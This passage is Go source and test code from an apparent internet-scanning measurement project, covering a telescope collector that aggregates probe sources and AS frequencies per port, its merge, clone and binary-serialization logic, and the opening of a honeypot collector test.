			c.cacheKey = "unknown"
		}
	}
	c.pending++

	if pairNew {
		if log := c.cacheWatch; log != nil {
			log.observe(p.Dst, p.Src)
		}
	}
}

// flushAS folds the deferred AS-frequency run counter into the cached
// port's table. With nothing pending it performs no writes at all, so
// the frequency readers of a merged (never-observed) collector stay
// safe for concurrent use.
func (c *Collector) flushAS() {
	if c.asValid && c.pending > 0 {
		c.cacheFreq.Add(c.cacheKey, c.pending)
		c.pending = 0
	}
}

// fillPortCache points the observe cache at port's aggregation maps,
// creating them on first traffic. The deferred AS count is flushed
// first: it belongs to the previous port's table.
func (c *Collector) fillPortCache(port uint16) {
	c.flushAS()
	c.asValid = false
	c.cacheSrcOK = false
	srcs, ok := c.srcsByPort[port]
	if !ok {
		srcs = map[wire.Addr]struct{}{}
		c.srcsByPort[port] = srcs
	}
	freq, ok := c.asByPort[port]
	if !ok {
		freq = stats.Freq{}
		c.asByPort[port] = freq
	}
	var log *watchLog
	if c.watch[port] {
		log, ok = c.perAddr[port]
		if !ok {
			log = &watchLog{}
			c.perAddr[port] = log
		}
	}
	c.cachePort, c.cacheOK = port, true
	c.cacheSrcs, c.cacheFreq, c.cacheWatch = srcs, freq, log
}

// Packets returns the total packet count observed.
func (c *Collector) Packets() int { return c.packets }

// Flush folds any deferred per-run aggregation into the tables. After
// Flush, and as long as no further Observe calls happen, the collector
// is pure data: Merge sources and every reader are write-free, so a
// sealed collector may feed concurrent merges (the streaming engine
// seals its per-epoch collectors once generation finishes).
func (c *Collector) Flush() { c.flushAS() }

// Clone returns a collector with the same aggregated state, for
// extending a sealed collector without mutating it — the incremental
// snapshot chain clones the previous prefix's collector and merges
// only the new epoch's shards into the clone. The aggregation maps are
// deep-copied (they mutate on merge); the watch-port set is shared
// (immutable after New), and the per-destination watch-log columns are
// shared append-style: the clone's logs start as views of c's columns,
// so a later Merge extends them without copying the history. Only one
// clone per collector may ever be extended (the snapshot chain is
// linear), which keeps the shared column tails single-writer; c itself
// stays sealed and safe for concurrent readers throughout.
func (c *Collector) Clone() *Collector {
	c.flushAS()
	n := &Collector{
		srcsByPort: make(map[uint16]map[wire.Addr]struct{}, len(c.srcsByPort)),
		asByPort:   make(map[uint16]stats.Freq, len(c.asByPort)),
		perAddr:    make(map[uint16]*watchLog, len(c.perAddr)),
		watch:      c.watch,
		packets:    c.packets,
	}
	// maps.Clone bulk-copies the per-port aggregates without re-hashing
	// every entry — the snapshot chain clones once per ingested epoch
	// over sets that only ever grow.
	for port, srcs := range c.srcsByPort {
		n.srcsByPort[port] = maps.Clone(srcs)
	}
	for port, freq := range c.asByPort {
		n.asByPort[port] = maps.Clone(freq)
	}
	for port, log := range c.perAddr {
		n.perAddr[port] = &watchLog{
			dst:     log.dst,
			src:     log.src,
			lastDst: log.lastDst,
			lastSrc: log.lastSrc,
			lastOK:  log.lastOK,
		}
	}
	return n
}

// Merge folds another collector's observations into c. Every
// aggregate is a set union or an integer-count sum, so merging shard
// collectors in any order yields the same state a single collector
// would have reached observing all probes serially — the property the
// parallel study pipeline relies on. The other collector is left
// unmodified and must not be observed into concurrently. Merging a
// collector into itself is a no-op.
func (c *Collector) Merge(o *Collector) {
	if c == o {
		return
	}
	c.flushAS()
	o.flushAS()
	c.packets += o.packets
	for port, srcs := range o.srcsByPort {
		dst, ok := c.srcsByPort[port]
		if !ok {
			dst = make(map[wire.Addr]struct{}, len(srcs))
			c.srcsByPort[port] = dst
		}
		for s := range srcs {
			dst[s] = struct{}{}
		}
	}
	for port, freq := range o.asByPort {
		dst, ok := c.asByPort[port]
		if !ok {
			dst = stats.Freq{}
			c.asByPort[port] = dst
		}
		for k, v := range freq {
			dst.Add(k, v)
		}
	}
	for port, olog := range o.perAddr {
		if !c.watch[port] {
			continue
		}
		log, ok := c.perAddr[port]
		if !ok {
			log = &watchLog{}
			c.perAddr[port] = log
		}
		log.dst = append(log.dst, olog.dst...)
		log.src = append(log.src, olog.src...)
		// The merged tail ends with o's last pair; adopting it keeps the
		// run-length skip sound (a skipped pair is always in the log).
		if olog.lastOK {
			log.lastDst, log.lastSrc, log.lastOK = olog.lastDst, olog.lastSrc, true
		}
	}
}

// UniqueSources returns the set of source addresses seen on a port.
// The returned map is shared; callers must not mutate it.
func (c *Collector) UniqueSources(port uint16) map[wire.Addr]struct{} {
	return c.srcsByPort[port]
}

// UniqueSourceCount returns the number of distinct sources on a port.
func (c *Collector) UniqueSourceCount(port uint16) int {
	return len(c.srcsByPort[port])
}

// AllSources returns the distinct sources across every port.
func (c *Collector) AllSources() map[wire.Addr]struct{} {
	out := map[wire.Addr]struct{}{}
	for _, srcs := range c.srcsByPort {
		for s := range srcs {
			out[s] = struct{}{}
		}
	}
	return out
}

// ASFrequencies returns the AS frequency table of a port. The table is
// shared; callers must not mutate it.
func (c *Collector) ASFrequencies(port uint16) stats.Freq {
	c.flushAS()
	f := c.asByPort[port]
	if f == nil {
		return stats.Freq{}
	}
	return f
}

// ASFrequenciesAll merges the AS tables of every port.
func (c *Collector) ASFrequenciesAll() stats.Freq {
	c.flushAS()
	out := stats.Freq{}
	for _, f := range c.asByPort {
		for k, v := range f {
			out.Add(k, v)
		}
	}
	return out
}

// PerAddressSeries returns, for a watched port, the unique-source
// count of every destination address in u's telescope space in address
// order — the raw series behind Figure 1. Unwatched ports return nil.
//
// The watch log is columnar: pairs are packed into one uint64 key,
// sorted, and deduplicated in a scratch copy (the log itself is never
// mutated, so concurrent series builds over different — or the same —
// ports are safe on a merged collector), and each distinct
// destination's count lands at its global index via the universe's
// sorted-block telescope index, one binary search per destination run.
func (c *Collector) PerAddressSeries(u *netsim.Universe, port uint16) []int {
	log, ok := c.perAddr[port]
	if !ok {
		return nil
	}
	out := make([]int, u.TelescopeSize())
	keys := make([]uint64, len(log.dst))
	for i, dst := range log.dst {
		keys[i] = uint64(dst)<<32 | uint64(log.src[i])
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	var prev uint64
	curIdx, curOK := 0, false
	var curDst wire.Addr
	for i, k := range keys {
		if i > 0 && k == prev {
			continue
		}
		prev = k
		if dst := wire.Addr(k >> 32); !curOK || dst != curDst {
			curDst = dst
			curIdx, curOK = u.TelescopeIndex(dst)
		}
		if curOK {
			out[curIdx]++
		}
	}
	return out
}

// RollingMedianWindow smooths a per-address series with a trailing
// window average ("we compute a rolling average of the # of scanning
// IPs across every consecutive 512 IPs", Figure 1 caption).
func RollingMedianWindow(series []int, window int) []float64 {
	if window <= 0 || len(series) == 0 {
		return nil
	}
	out := make([]float64, 0, len(series)/window)
	for start := 0; start+window <= len(series); start += window {
		sum := 0
		for i := start; i < start+window; i++ {
			sum += series[i]
		}
		out = append(out, float64(sum)/float64(window))
	}
	return out
}

// WatchedPorts returns the ports with per-destination tracking, sorted.
func (c *Collector) WatchedPorts() []uint16 {
	var out []uint16
	for p := range c.watch {
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}
