package telescope

import (
	"testing"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

func telUniverse(t *testing.T) *netsim.Universe {
	t.Helper()
	u, err := netsim.NewUniverse(1, 2021, nil)
	if err != nil {
		t.Fatal(err)
	}
	u.TelescopeBlocks = []wire.Block{
		wire.MustParseBlock("100.64.0.0/24"),
		wire.MustParseBlock("100.64.1.0/24"),
	}
	return u
}

func mkProbe(src, dst string, port uint16, asn int) netsim.Probe {
	return netsim.Probe{
		Src: wire.MustParseAddr(src), Dst: wire.MustParseAddr(dst),
		Port: port, ASN: asn, Transport: wire.TCP,
	}
}

func TestCollectorAggregation(t *testing.T) {
	c := New(22)
	c.Observe(mkProbe("1.1.1.1", "100.64.0.5", 22, 4134))
	c.Observe(mkProbe("1.1.1.1", "100.64.0.6", 22, 4134)) // same src, 2nd dst
	c.Observe(mkProbe("2.2.2.2", "100.64.0.5", 22, 174))
	c.Observe(mkProbe("3.3.3.3", "100.64.1.9", 80, 174)) // unwatched port

	if c.Packets() != 4 {
		t.Errorf("packets = %d", c.Packets())
	}
	if c.UniqueSourceCount(22) != 2 {
		t.Errorf("unique srcs port 22 = %d, want 2", c.UniqueSourceCount(22))
	}
	if c.UniqueSourceCount(80) != 1 {
		t.Errorf("unique srcs port 80 = %d, want 1", c.UniqueSourceCount(80))
	}
	if len(c.AllSources()) != 3 {
		t.Errorf("all srcs = %d, want 3", len(c.AllSources()))
	}
	if got := c.ASFrequencies(22)["AS4134 Chinanet"]; got != 2 {
		t.Errorf("AS4134 count = %v, want 2", got)
	}
	if got := c.ASFrequenciesAll().Total(); got != 4 {
		t.Errorf("all-port AS total = %v, want 4", got)
	}
	if got := c.ASFrequencies(443); len(got) != 0 {
		t.Errorf("unseen port should have empty AS table: %v", got)
	}
}

func TestCollectorUnknownAS(t *testing.T) {
	c := New()
	c.Observe(mkProbe("1.1.1.1", "100.64.0.5", 22, 999999))
	if got := c.ASFrequencies(22)["unknown"]; got != 1 {
		t.Errorf("unknown AS count = %v", got)
	}
}

func TestPerAddressSeries(t *testing.T) {
	u := telUniverse(t)
	c := New(445)
	// Three distinct scanners on .5 of block 0; one on .9 of block 1.
	c.Observe(mkProbe("1.1.1.1", "100.64.0.5", 445, 4134))
	c.Observe(mkProbe("2.2.2.2", "100.64.0.5", 445, 4134))
	c.Observe(mkProbe("2.2.2.2", "100.64.0.5", 445, 4134)) // repeat: same src
	c.Observe(mkProbe("3.3.3.3", "100.64.1.9", 445, 4134))

	series := c.PerAddressSeries(u, 445)
	if len(series) != 512 {
		t.Fatalf("series length = %d, want 512", len(series))
	}
	if series[5] != 2 {
		t.Errorf("series[5] = %d, want 2 unique scanners", series[5])
	}
	if series[256+9] != 1 {
		t.Errorf("series[265] = %d, want 1", series[256+9])
	}
	if series[0] != 0 {
		t.Errorf("untouched address should be 0")
	}
	if got := c.PerAddressSeries(u, 80); got != nil {
		t.Errorf("unwatched port series = %v, want nil", got)
	}
}

func TestRollingMedianWindow(t *testing.T) {
	series := []int{1, 1, 1, 1, 9, 9, 9, 9}
	got := RollingMedianWindow(series, 4)
	if len(got) != 2 || got[0] != 1 || got[1] != 9 {
		t.Errorf("windows = %v, want [1 9]", got)
	}
	if got := RollingMedianWindow(series, 0); got != nil {
		t.Errorf("zero window = %v", got)
	}
	if got := RollingMedianWindow(nil, 4); got != nil {
		t.Errorf("empty series = %v", got)
	}
	// Window larger than series: no complete window.
	if got := RollingMedianWindow([]int{1, 2}, 4); len(got) != 0 {
		t.Errorf("oversized window = %v", got)
	}
}

func TestWatchedPorts(t *testing.T) {
	c := New(445, 22, 17128)
	got := c.WatchedPorts()
	want := []uint16{22, 445, 17128}
	if len(got) != 3 {
		t.Fatalf("watched = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("watched = %v, want %v", got, want)
		}
	}
}
