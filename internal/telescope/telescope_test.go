package telescope

import (
	"sync"
	"testing"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

func telUniverse(t *testing.T) *netsim.Universe {
	t.Helper()
	u, err := netsim.NewUniverse(1, 2021, nil)
	if err != nil {
		t.Fatal(err)
	}
	u.TelescopeBlocks = []wire.Block{
		wire.MustParseBlock("100.64.0.0/24"),
		wire.MustParseBlock("100.64.1.0/24"),
	}
	return u
}

func mkProbe(src, dst string, port uint16, asn int) *netsim.Probe {
	return &netsim.Probe{
		Src: wire.MustParseAddr(src), Dst: wire.MustParseAddr(dst),
		Port: port, ASN: asn, Transport: wire.TCP,
	}
}

func TestCollectorAggregation(t *testing.T) {
	c := New(22)
	c.Observe(mkProbe("1.1.1.1", "100.64.0.5", 22, 4134))
	c.Observe(mkProbe("1.1.1.1", "100.64.0.6", 22, 4134)) // same src, 2nd dst
	c.Observe(mkProbe("2.2.2.2", "100.64.0.5", 22, 174))
	c.Observe(mkProbe("3.3.3.3", "100.64.1.9", 80, 174)) // unwatched port

	if c.Packets() != 4 {
		t.Errorf("packets = %d", c.Packets())
	}
	if c.UniqueSourceCount(22) != 2 {
		t.Errorf("unique srcs port 22 = %d, want 2", c.UniqueSourceCount(22))
	}
	if c.UniqueSourceCount(80) != 1 {
		t.Errorf("unique srcs port 80 = %d, want 1", c.UniqueSourceCount(80))
	}
	if len(c.AllSources()) != 3 {
		t.Errorf("all srcs = %d, want 3", len(c.AllSources()))
	}
	if got := c.ASFrequencies(22)["AS4134 Chinanet"]; got != 2 {
		t.Errorf("AS4134 count = %v, want 2", got)
	}
	if got := c.ASFrequenciesAll().Total(); got != 4 {
		t.Errorf("all-port AS total = %v, want 4", got)
	}
	if got := c.ASFrequencies(443); len(got) != 0 {
		t.Errorf("unseen port should have empty AS table: %v", got)
	}
}

func TestCollectorUnknownAS(t *testing.T) {
	c := New()
	c.Observe(mkProbe("1.1.1.1", "100.64.0.5", 22, 999999))
	if got := c.ASFrequencies(22)["unknown"]; got != 1 {
		t.Errorf("unknown AS count = %v", got)
	}
}

func TestPerAddressSeries(t *testing.T) {
	u := telUniverse(t)
	c := New(445)
	// Three distinct scanners on .5 of block 0; one on .9 of block 1.
	c.Observe(mkProbe("1.1.1.1", "100.64.0.5", 445, 4134))
	c.Observe(mkProbe("2.2.2.2", "100.64.0.5", 445, 4134))
	c.Observe(mkProbe("2.2.2.2", "100.64.0.5", 445, 4134)) // repeat: same src
	c.Observe(mkProbe("3.3.3.3", "100.64.1.9", 445, 4134))

	series := c.PerAddressSeries(u, 445)
	if len(series) != 512 {
		t.Fatalf("series length = %d, want 512", len(series))
	}
	if series[5] != 2 {
		t.Errorf("series[5] = %d, want 2 unique scanners", series[5])
	}
	if series[256+9] != 1 {
		t.Errorf("series[265] = %d, want 1", series[256+9])
	}
	if series[0] != 0 {
		t.Errorf("untouched address should be 0")
	}
	if got := c.PerAddressSeries(u, 80); got != nil {
		t.Errorf("unwatched port series = %v, want nil", got)
	}
}

func TestRollingMedianWindow(t *testing.T) {
	series := []int{1, 1, 1, 1, 9, 9, 9, 9}
	got := RollingMedianWindow(series, 4)
	if len(got) != 2 || got[0] != 1 || got[1] != 9 {
		t.Errorf("windows = %v, want [1 9]", got)
	}
	if got := RollingMedianWindow(series, 0); got != nil {
		t.Errorf("zero window = %v", got)
	}
	if got := RollingMedianWindow(nil, 4); got != nil {
		t.Errorf("empty series = %v", got)
	}
	// Window larger than series: no complete window.
	if got := RollingMedianWindow([]int{1, 2}, 4); len(got) != 0 {
		t.Errorf("oversized window = %v", got)
	}
}

// TestCollectorMergeEquivalentToSerial splits one probe stream across
// two shard collectors and checks that merging them reproduces the
// serial collector exactly — the invariant the parallel study pipeline
// depends on.
func TestCollectorMergeEquivalentToSerial(t *testing.T) {
	u := telUniverse(t)
	probes := []*netsim.Probe{
		mkProbe("1.1.1.1", "100.64.0.5", 22, 4134),
		mkProbe("1.1.1.1", "100.64.0.6", 22, 4134),
		mkProbe("2.2.2.2", "100.64.0.5", 22, 174),
		mkProbe("2.2.2.2", "100.64.1.9", 445, 174),
		mkProbe("3.3.3.3", "100.64.1.9", 80, 999999), // unwatched, unknown AS
		mkProbe("3.3.3.3", "100.64.0.5", 22, 4134),   // src seen by both shards
	}

	serial := New(22, 445)
	for _, p := range probes {
		serial.Observe(p)
	}

	a, b := New(22, 445), New(22, 445)
	for i, p := range probes {
		if i%2 == 0 {
			a.Observe(p)
		} else {
			b.Observe(p)
		}
	}
	merged := New(22, 445)
	merged.Merge(a)
	merged.Merge(b)

	if merged.Packets() != serial.Packets() {
		t.Errorf("packets = %d, want %d", merged.Packets(), serial.Packets())
	}
	for _, port := range []uint16{22, 80, 445} {
		if got, want := merged.UniqueSourceCount(port), serial.UniqueSourceCount(port); got != want {
			t.Errorf("port %d unique srcs = %d, want %d", port, got, want)
		}
		mf, sf := merged.ASFrequencies(port), serial.ASFrequencies(port)
		if len(mf) != len(sf) {
			t.Fatalf("port %d AS tables differ: %v vs %v", port, mf, sf)
		}
		for k, v := range sf {
			if mf[k] != v {
				t.Errorf("port %d AS %q = %v, want %v", port, k, mf[k], v)
			}
		}
	}
	for _, port := range []uint16{22, 445} {
		ms, ss := merged.PerAddressSeries(u, port), serial.PerAddressSeries(u, port)
		if len(ms) != len(ss) {
			t.Fatalf("port %d series lengths differ", port)
		}
		for i := range ss {
			if ms[i] != ss[i] {
				t.Errorf("port %d series[%d] = %d, want %d", port, i, ms[i], ss[i])
			}
		}
	}
	if got, want := len(merged.AllSources()), len(serial.AllSources()); got != want {
		t.Errorf("all srcs = %d, want %d", got, want)
	}
}

// TestCollectorMergeIntoEmpty checks merging into a fresh collector
// copies rather than aliases the source's maps.
func TestCollectorMergeIntoEmpty(t *testing.T) {
	a := New(22)
	a.Observe(mkProbe("1.1.1.1", "100.64.0.5", 22, 4134))
	merged := New(22)
	merged.Merge(a)
	merged.Observe(mkProbe("2.2.2.2", "100.64.0.5", 22, 174))
	if a.UniqueSourceCount(22) != 1 {
		t.Errorf("merge aliased source collector: %d srcs", a.UniqueSourceCount(22))
	}
	if merged.UniqueSourceCount(22) != 2 {
		t.Errorf("merged srcs = %d, want 2", merged.UniqueSourceCount(22))
	}
}

func TestWatchedPorts(t *testing.T) {
	c := New(445, 22, 17128)
	got := c.WatchedPorts()
	want := []uint16{22, 445, 17128}
	if len(got) != 3 {
		t.Fatalf("watched = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("watched = %v, want %v", got, want)
		}
	}
}

func TestCollectorSelfMergeNoOp(t *testing.T) {
	c := New(22)
	c.Observe(mkProbe("1.1.1.1", "100.64.0.5", 22, 4134))
	c.Merge(c)
	if c.Packets() != 1 {
		t.Errorf("self-merge changed packets: %d, want 1", c.Packets())
	}
	if got := c.ASFrequencies(22)["AS4134 Chinanet"]; got != 1 {
		t.Errorf("self-merge changed AS count: %v, want 1", got)
	}
}

// TestObserveCachesFlushOnReads checks the deferred AS-frequency run
// counter: interleaved ports, ASNs, and repeated sources must produce
// exactly the per-probe counts, whether read directly or after Merge.
func TestObserveCachesFlushOnReads(t *testing.T) {
	c := New(22)
	probes := []*netsim.Probe{
		mkProbe("10.0.0.1", "1.1.1.1", 22, 4134),
		mkProbe("10.0.0.1", "1.1.1.1", 22, 4134),
		mkProbe("10.0.0.1", "1.1.1.2", 22, 4134),
		mkProbe("10.0.0.2", "1.1.1.1", 23, 4134),
		mkProbe("10.0.0.2", "1.1.1.1", 22, 16276),
		mkProbe("10.0.0.1", "1.1.1.1", 22, 16276),
		mkProbe("10.0.0.1", "1.1.1.1", 22, 4134),
	}
	for _, p := range probes {
		c.Observe(p)
	}
	f := c.ASFrequencies(22)
	chinanet := netsim.MustAS(4134).Key()
	ovh := netsim.MustAS(16276).Key()
	if f[chinanet] != 4 || f[ovh] != 2 {
		t.Fatalf("port 22 AS counts = %v, want %s:4 %s:2", f, chinanet, ovh)
	}
	if g := c.ASFrequencies(23); g[chinanet] != 1 {
		t.Fatalf("port 23 AS counts = %v", g)
	}
	if c.UniqueSourceCount(22) != 2 || c.UniqueSourceCount(23) != 1 {
		t.Fatalf("unique sources = %d/%d", c.UniqueSourceCount(22), c.UniqueSourceCount(23))
	}

	// Merge flushes pending runs on both sides.
	a, b := New(22), New(22)
	for _, p := range probes[:3] {
		a.Observe(p)
	}
	for _, p := range probes[3:] {
		b.Observe(p)
	}
	a.Merge(b)
	got := a.ASFrequencies(22)
	for k, v := range f {
		if got[k] != v {
			t.Fatalf("merged AS %q = %v, want %v", k, got[k], v)
		}
	}
	if a.Packets() != c.Packets() {
		t.Fatalf("merged packets = %d, want %d", a.Packets(), c.Packets())
	}
}

// TestMergedCollectorConcurrentReads locks in the read-path contract:
// frequency readers on a merged (never-observed) collector perform no
// writes, so concurrent experiment fan-out is race-free (run under
// -race).
func TestMergedCollectorConcurrentReads(t *testing.T) {
	shard := New(22)
	for i := 0; i < 50; i++ {
		shard.Observe(mkProbe("10.0.0.1", "1.1.1.1", 22, 4134))
		shard.Observe(mkProbe("10.0.0.2", "1.1.1.2", 23, 16276))
	}
	merged := New(22)
	merged.Merge(shard)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				_ = merged.ASFrequencies(22)
				_ = merged.ASFrequenciesAll()
				_ = merged.UniqueSourceCount(23)
			}
		}()
	}
	wg.Wait()
	if f := merged.ASFrequencies(22); f[netsim.MustAS(4134).Key()] != 50 {
		t.Fatalf("merged AS counts wrong after concurrent reads: %v", f)
	}
}

// TestCollectorCloneIsolation checks the incremental-chain contract:
// a clone carries the original's aggregated state exactly, and merging
// new shards into the clone never mutates the sealed original — while
// the shared watch-log columns keep extending append-style.
func TestCollectorCloneIsolation(t *testing.T) {
	u := telUniverse(t)
	orig := New(22, 445)
	orig.Observe(mkProbe("1.1.1.1", "100.64.0.5", 22, 4134))
	orig.Observe(mkProbe("2.2.2.2", "100.64.0.5", 22, 174))
	orig.Observe(mkProbe("2.2.2.2", "100.64.1.9", 445, 174))
	orig.Flush()

	clone := orig.Clone()
	if clone.Packets() != orig.Packets() {
		t.Fatalf("clone packets = %d, want %d", clone.Packets(), orig.Packets())
	}
	chinanet := netsim.MustAS(4134).Key()
	if clone.UniqueSourceCount(22) != 2 || clone.ASFrequencies(22)[chinanet] != 1 {
		t.Fatalf("clone lost aggregated state: %d srcs, AS table %v",
			clone.UniqueSourceCount(22), clone.ASFrequencies(22))
	}
	wantSeries := orig.PerAddressSeries(u, 22)
	gotSeries := clone.PerAddressSeries(u, 22)
	for i := range wantSeries {
		if gotSeries[i] != wantSeries[i] {
			t.Fatalf("clone series[%d] = %d, want %d", i, gotSeries[i], wantSeries[i])
		}
	}

	// Extend the clone with a new shard; the original must not move.
	shard := New(22, 445)
	shard.Observe(mkProbe("3.3.3.3", "100.64.0.7", 22, 4134))
	shard.Observe(mkProbe("3.3.3.3", "100.64.1.9", 445, 4134))
	clone.Merge(shard)

	if orig.Packets() != 3 || clone.Packets() != 5 {
		t.Fatalf("packets after merge = orig %d / clone %d, want 3 / 5", orig.Packets(), clone.Packets())
	}
	if orig.UniqueSourceCount(22) != 2 || clone.UniqueSourceCount(22) != 3 {
		t.Fatalf("port 22 srcs after merge = orig %d / clone %d, want 2 / 3",
			orig.UniqueSourceCount(22), clone.UniqueSourceCount(22))
	}
	if orig.ASFrequencies(22)[chinanet] != 1 || clone.ASFrequencies(22)[chinanet] != 2 {
		t.Fatalf("AS counts after merge = orig %v / clone %v",
			orig.ASFrequencies(22)[chinanet], clone.ASFrequencies(22)[chinanet])
	}
	// Figure 1 series: the clone sees the new destination, the sealed
	// original still renders its own window.
	if s := orig.PerAddressSeries(u, 22); s[7] != 0 {
		t.Fatalf("original series gained the clone's destination: %v", s[7])
	}
	if s := clone.PerAddressSeries(u, 22); s[7] != 1 || s[5] != 2 {
		t.Fatalf("clone series = dst7:%d dst5:%d, want 1 and 2", s[7], s[5])
	}
	if s := clone.PerAddressSeries(u, 445); s[256+9] != 2 {
		t.Fatalf("clone port 445 series[265] = %d, want 2 unique scanners", s[256+9])
	}
}
