package telescope

import (
	"fmt"

	"cloudwatch/internal/stats"
	"cloudwatch/internal/wire"
)

// Serialization of a sealed collector for the durable epoch store.
// Only aggregated state is persisted — the per-run observe caches are
// transient and a restored collector is only ever merged and read,
// never observed into, exactly like the sealed per-epoch collectors it
// reconstructs. Deferred AS counts are flushed before encoding so the
// tables are complete.

// AppendBinary serializes the collector's aggregated state onto dst.
func (c *Collector) AppendBinary(dst []byte) []byte {
	c.flushAS()
	dst = wire.AppendU64(dst, uint64(c.packets))

	dst = wire.AppendU32(dst, uint32(len(c.watch)))
	for port := range c.watch {
		dst = wire.AppendU16(dst, port)
	}

	dst = wire.AppendU32(dst, uint32(len(c.srcsByPort)))
	for port, srcs := range c.srcsByPort {
		dst = wire.AppendU16(dst, port)
		dst = wire.AppendU32(dst, uint32(len(srcs)))
		for s := range srcs {
			dst = wire.AppendU32(dst, uint32(s))
		}
	}

	dst = wire.AppendU32(dst, uint32(len(c.asByPort)))
	for port, freq := range c.asByPort {
		dst = wire.AppendU16(dst, port)
		dst = wire.AppendU32(dst, uint32(len(freq)))
		for k, v := range freq {
			dst = wire.AppendString(dst, k)
			dst = wire.AppendF64(dst, v)
		}
	}

	dst = wire.AppendU32(dst, uint32(len(c.perAddr)))
	for port, log := range c.perAddr {
		dst = wire.AppendU16(dst, port)
		dst = wire.AppendAddrs(dst, log.dst)
		dst = wire.AppendAddrs(dst, log.src)
		last := uint8(0)
		if log.lastOK {
			last = 1
		}
		dst = wire.AppendU8(dst, last)
		dst = wire.AppendU32(dst, uint32(log.lastDst))
		dst = wire.AppendU32(dst, uint32(log.lastSrc))
	}
	return dst
}

// DecodeCollector reads one serialized collector. The result is
// sealed: safe to Merge from, Clone, and read, with the same
// aggregated state the encoded collector held.
func DecodeCollector(r *wire.BinReader) (*Collector, error) {
	c := &Collector{
		srcsByPort: map[uint16]map[wire.Addr]struct{}{},
		asByPort:   map[uint16]stats.Freq{},
		perAddr:    map[uint16]*watchLog{},
		watch:      map[uint16]bool{},
	}
	c.packets = int(r.U64())

	for i, n := 0, r.Count(2); i < n; i++ {
		c.watch[r.U16()] = true
	}

	for i, n := 0, r.Count(3); i < n; i++ {
		port := r.U16()
		m := r.Count(4)
		srcs := make(map[wire.Addr]struct{}, m)
		for j := 0; j < m; j++ {
			srcs[wire.Addr(r.U32())] = struct{}{}
		}
		if r.Err() == nil {
			c.srcsByPort[port] = srcs
		}
	}

	for i, n := 0, r.Count(3); i < n; i++ {
		port := r.U16()
		m := r.Count(12)
		freq := make(stats.Freq, m)
		for j := 0; j < m; j++ {
			k := r.String()
			v := r.F64()
			if r.Err() == nil {
				freq[k] = v
			}
		}
		if r.Err() == nil {
			c.asByPort[port] = freq
		}
	}

	for i, n := 0, r.Count(3); i < n; i++ {
		port := r.U16()
		log := &watchLog{
			dst: r.Addrs(),
			src: r.Addrs(),
		}
		log.lastOK = r.U8() == 1
		log.lastDst = wire.Addr(r.U32())
		log.lastSrc = wire.Addr(r.U32())
		if len(log.dst) != len(log.src) {
			return nil, fmt.Errorf("telescope: watch log columns disagree (%d dst vs %d src)", len(log.dst), len(log.src))
		}
		if r.Err() == nil {
			c.perAddr[port] = log
		}
	}
	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("telescope: decoding collector: %w", err)
	}
	return c, nil
}
