package telescope

import (
	"reflect"
	"testing"
	"time"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

func persistTestCollector() *Collector {
	c := New(22, 80)
	probe := func(src, dst wire.Addr, port uint16, asn int) *netsim.Probe {
		return &netsim.Probe{
			T: netsim.StudyStart.Add(time.Hour), Src: src, Dst: dst,
			Port: port, ASN: asn, Transport: wire.TCP,
		}
	}
	c.Observe(probe(1, 100, 22, 64500))
	c.Observe(probe(1, 101, 22, 64500))
	c.Observe(probe(2, 100, 22, 64501))
	c.Observe(probe(3, 200, 443, 64502)) // unwatched port
	c.Observe(probe(4, 201, 80, 64502))
	c.Flush()
	return c
}

func TestCollectorBinaryRoundTrip(t *testing.T) {
	c := persistTestCollector()
	enc := c.AppendBinary(nil)
	r := wire.NewBinReader(enc)
	got, err := DecodeCollector(r)
	if err != nil {
		t.Fatal(err)
	}
	if r.Len() != 0 {
		t.Fatalf("decoder left %d bytes", r.Len())
	}

	if got.Packets() != c.Packets() {
		t.Fatalf("packets %d != %d", got.Packets(), c.Packets())
	}
	if !reflect.DeepEqual(got.WatchedPorts(), c.WatchedPorts()) {
		t.Fatalf("watched ports %v != %v", got.WatchedPorts(), c.WatchedPorts())
	}
	for _, port := range []uint16{22, 80, 443, 9999} {
		if !reflect.DeepEqual(got.UniqueSources(port), c.UniqueSources(port)) {
			t.Fatalf("port %d sources differ", port)
		}
		if !reflect.DeepEqual(got.ASFrequencies(port), c.ASFrequencies(port)) {
			t.Fatalf("port %d AS frequencies differ", port)
		}
	}
	if !reflect.DeepEqual(got.perAddr, c.perAddr) {
		t.Fatalf("watch logs differ:\n%+v\nvs\n%+v", got.perAddr, c.perAddr)
	}

	// The decoded collector is sealed but fully functional: merging it
	// equals merging the original.
	a, b := New(22, 80), New(22, 80)
	a.Merge(c)
	b.Merge(got)
	if !reflect.DeepEqual(a.srcsByPort, b.srcsByPort) || !reflect.DeepEqual(a.asByPort, b.asByPort) {
		t.Fatal("merge of decoded collector diverges from merge of original")
	}
}

func TestDecodeCollectorRejectsTruncation(t *testing.T) {
	enc := persistTestCollector().AppendBinary(nil)
	for cut := 0; cut < len(enc); cut += 7 {
		if _, err := DecodeCollector(wire.NewBinReader(enc[:cut])); err == nil {
			t.Fatalf("truncation at %d decoded successfully", cut)
		}
	}
}
