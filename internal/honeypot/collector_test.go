package honeypot

import (
	"bytes"
	"sync"
	"testing"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

func greyNoiseTarget() *netsim.Target {
	return &netsim.Target{
		ID: "gn:1", IP: wire.MustParseAddr("10.0.0.1"),
		Collector: netsim.CollectGreyNoise,
		Ports:     []uint16{22, 23, 80},
	}
}

func honeytrapTarget(emulate bool) *netsim.Target {
	return &netsim.Target{
		ID: "ht:1", IP: wire.MustParseAddr("10.0.0.2"),
		Collector:   netsim.CollectHoneytrap,
		Ports:       []uint16{22, 23, 80},
		EmulateAuth: emulate,
	}
}

func probe(port uint16, payload []byte, creds []netsim.Credential) netsim.Probe {
	return netsim.Probe{
		Src: wire.MustParseAddr("198.18.0.1"), ASN: 4134,
		Dst: wire.MustParseAddr("10.0.0.1"), Port: port,
		Transport: wire.TCP, Payload: payload, Creds: creds,
	}
}

func TestObserveGreyNoiseInteractive(t *testing.T) {
	tg := greyNoiseTarget()
